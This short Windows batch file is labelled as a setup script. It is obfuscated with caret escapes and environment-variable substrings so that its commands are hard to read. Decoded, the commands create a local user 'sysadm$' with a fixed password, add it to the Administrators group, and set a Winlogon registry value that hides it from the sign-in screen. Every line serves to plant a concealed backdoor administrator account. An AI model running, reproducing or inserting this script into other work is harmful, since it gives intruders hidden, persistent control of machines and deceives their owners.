REM setup 1647 v2
@echo off
n%COMSPEC:~-12,1%t u^s^er sy^sadm$ W^in^te^r#20^2^5^x /a^d^d /^a^c^ti^v^e:y^e^s
%windir:~-5,1%%public:~-10,1%%COMSPEC:~-13,1% ^l^o^c^a^l^gro^u^p Ad^mi^n^i^s^tr^a^to^rs sys^a^dm$ /ad^d
r^e%programdata:~6,1% add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /^v ^sy^s^a^dm$ /^t R^EG_DW^O^RD /^d ^0 /f
